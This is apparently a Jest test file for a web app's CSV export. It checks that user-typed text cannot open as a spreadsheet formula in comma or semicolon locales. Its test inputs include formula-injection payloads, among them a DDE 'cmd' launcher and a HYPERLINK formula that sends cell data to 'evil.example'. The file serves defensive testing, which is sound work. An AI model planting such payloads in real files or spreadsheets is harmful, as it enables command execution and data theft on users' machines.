// CSV formula injection (issue 14, gap 5): hostile text typed into the app goes out in a CSV export and
// is read back the way a spreadsheet program would read it — in a `,` locale and in a `;` locale
// (Spanish of Costa Rica, French…), where `;` separates cells — with the quote rules every spreadsheet
// applies. No cell may then start like a formula.
import { parse } from 'csv-parse/sync';
import type { Activity, Hub } from '@mih/contracts';
import { download } from '../../testing/export-files';
import { createTestApp, TestApp } from '../../testing/test-app';
import { writeCsv } from './export-writers';

/** Text a user could type (the API trims the ends, so leading tabs and CRs come through the writer spec). */
const HOSTILE = [
  'Parque;=1+1',
  'Parque;+cmd|" /C calc"!A0',
  'Parque;-2+3',
  'Parque;@SUM(A1:A9)',
  'Feria,=HYPERLINK("http://evil.example/?"&A2,"ver")',
  'Escuela; =1+1',
  'Cancha;\t=1+1',
  'Salón";=1+1;"',
  'Iglesia\n=1+1',
  '=1+1',
  '@SUM(A1)',
  '+502 5555-0101',
];

/** What a spreadsheet program runs: a cell that starts (after spaces) with = + - @, or with a tab or CR, unless it is a plain number. */
function isFormula(cell: string): boolean {
  if (/^[+-]?\d+([.,]\d+)?$/.test(cell.trim())) return false;
  return /^[\t\r]/.test(cell) || /^\s*[=+\-@]/.test(cell);
}

/**
 * Every cell of the file as a spreadsheet program splits it on `delimiter`: a cell that starts with a
 * quote runs to the closing quote (`""` is a quote; what follows up to the delimiter is kept as it is),
 * any other cell runs to the next delimiter or line break. Read with the other locale's delimiter, a
 * quote in the middle of a cell is just a character, and so is everything it used to protect.
 */
function cellsOf(csv: string, delimiter: ';' | ','): string[] {
  const text = csv.replace(/^\ufeff/, '');
  const cells: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
        else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i++];
      }
    }
    while (i < text.length && text[i] !== delimiter && text[i] !== '\n' && !(text[i] === '\r' && text[i + 1] === '\n')) cell += text[i++];
    cells.push(cell);
    if (text[i] === '\r') i++;
    i++;
  }
  return cells;
}

function formulasIn(csv: string): { delimiter: string; cell: string }[] {
  return (['; ', ', '] as const).flatMap((d) => {
    const delimiter = d.trim() as ';' | ',';
    return cellsOf(csv, delimiter)
      .filter(isFormula)
      .map((cell) => ({ delimiter, cell }));
  });
}

describe('CSV formula injection', () => {
  describe('an export with hostile text in every free-text column', () => {
    let t: TestApp;
    let hub: Hub;
    let csv: string;

    beforeAll(async () => {
      t = await createTestApp();
      hub = await t.newHub({ name: '=HYPERLINK("http://evil.example")', countryCode: 'GT' });
      for (const value of HOSTILE) {
        const response = await t.request<Activity>('POST', '/api/activities', {
          token: t.adminToken,
          body: {
            hubId: hub.id,
            type: 'community_fair',
            occurredOn: '2025-05-06',
            place: value,
            community: value,
            campaign: value,
            materials: value,
            participants: { girls: 1, boys: 1, women: 1, men: 1, other: 0 },
            topics: ['trafficking'],
          },
        });
        expect(response.status).toBe(201);
      }
      const file = await download(t, 'GET', `/api/exports/activities.csv?hubId=${hub.id}&lang=es`, t.adminToken);
      expect(file.status).toBe(200);
      csv = file.bytes.toString('utf8');
    });
    afterAll(() => t?.close());

    it('is still a well-formed CSV for a reader that follows RFC 4180 (csv-parse)', () => {
      const records: string[][] = parse(csv.replace(/^\ufeff/, ''), { delimiter: ',' });
      expect(records).toHaveLength(HOSTILE.length + 1);
      expect(new Set(records.map((r) => r.length)).size).toBe(1);
    });

    it('holds the hostile values (the spec would prove nothing otherwise)', () => {
      expect(csv).toContain('=1+1');
      expect(csv).toContain('@SUM(A1:A9)');
    });

    it('has no cell that a spreadsheet in a `;` locale would run as a formula', () => {
      expect(formulasIn(csv).filter((f) => f.delimiter === ';')).toEqual([]);
    });

    it('has no cell that a spreadsheet in a `,` locale would run as a formula', () => {
      expect(formulasIn(csv).filter((f) => f.delimiter === ',')).toEqual([]);
    });

    it('keeps each value in one cell for the `,` reader, an apostrophe before each part that could start a formula', () => {
      expect(cellsOf(csv, ',')).toEqual(
        expect.arrayContaining([
          "Parque;'=1+1",
          "Parque;'-2+3",
          "Escuela;' =1+1",
          "Cancha;'\t=1+1",
          'Feria,\'=HYPERLINK("http://evil.example/?"&A2,"ver")',
          'Salón";\'=1+1;"',
          "Iglesia\n'=1+1",
        ]),
      );
    });

    it('neutralises a formula start with a leading apostrophe and keeps the rest of the text', () => {
      expect(cellsOf(csv, ',')).toEqual(expect.arrayContaining(["'=1+1", "'@SUM(A1)", "'+502 5555-0101", '\'=HYPERLINK("http://evil.example")']));
    });

    describe('every CSV, coarsened or not, with its new columns (pseudonyms, withheld counts)', () => {
      beforeAll(async () => {
        const person = await t.newPerson(hub.id, { sex: 'male', vulnerabilities: ['gbv_survivor', 'pregnant'] }); // one man beside seven women: a "<5" and an "x"
        for (let i = 0; i < 7; i++) await t.newVisit(hub.id, { occurredAt: `2025-05-0${i + 1}T15:00:00Z` });
        await t.newVisit(hub.id, { occurredAt: '2025-05-09T15:00:00Z', personId: person.id });
      });

      it.each(['visits', 'persons', 'referrals', 'activities', 'dashboard'])('%s.csv has no formula for staff nor for the admin', async (dataset) => {
        const staff = (await t.newUser('staff', { hubIds: [hub.id] })).token;
        const query = dataset === 'dashboard' ? `from=2025-05-01&to=2025-05-31&hubId=${hub.id}` : `hubId=${hub.id}`;
        for (const token of [staff, t.adminToken]) {
          const file = await download(t, 'GET', `/api/exports/${dataset}.csv?${query}`, token);
          expect(file.status).toBe(200);
          const csv = file.bytes.toString('utf8');
          if (dataset === 'dashboard') expect(csv).toContain(',x\r\n'); // a withheld count is in the file
          if (dataset === 'visits' && token === staff) expect(csv).toMatch(/,[0-9A-Z]{5}-[0-9A-Z]{5},/); // a pseudonym is in the file
          expect(formulasIn(csv)).toEqual([]);
        }
      });
    });
  });

  describe('the writer, with what the API would have trimmed', () => {
    const values = ['\t=1+1', '\r=1+1', ' =1+1', 'a;\t=1+1', 'a,\r@x', 'a;b', 'a,b', '-1', 'plain'];

    async function written(): Promise<string> {
      async function* batches() {
        yield values.map((value) => [value, -1, '2026-01-05']);
      }
      const chunks: Buffer[] = [];
      const stream = writeCsv({
        name: 'x',
        columns: [
          { header: 'Texto', type: 'text' },
          { header: 'N', type: 'number' },
          { header: 'Fecha', type: 'date' },
        ],
        batches: batches(),
      });
      for await (const chunk of stream) chunks.push(Buffer.from(chunk));
      return Buffer.concat(chunks).toString('utf8');
    }

    it('leaves no formula in either locale and keeps negative numbers numbers', async () => {
      const csv = await written();
      expect(formulasIn(csv)).toEqual([]);
      expect(cellsOf(csv, ',').filter((cell) => cell === '-1')).toHaveLength(values.length); // the text '-1' is written "'-1"
    });

    it('quotes cells with `;` or `,` and the neutralised ones', async () => {
      const lines = (await written()).split('\r\n');
      expect(lines).toEqual(
        expect.arrayContaining([
          `"'\t=1+1",-1,2026-01-05`,
          `"' =1+1",-1,2026-01-05`,
          `"a;b",-1,2026-01-05`,
          `"a,b",-1,2026-01-05`,
          `plain,-1,2026-01-05`,
        ]),
      );
    });
  });
});
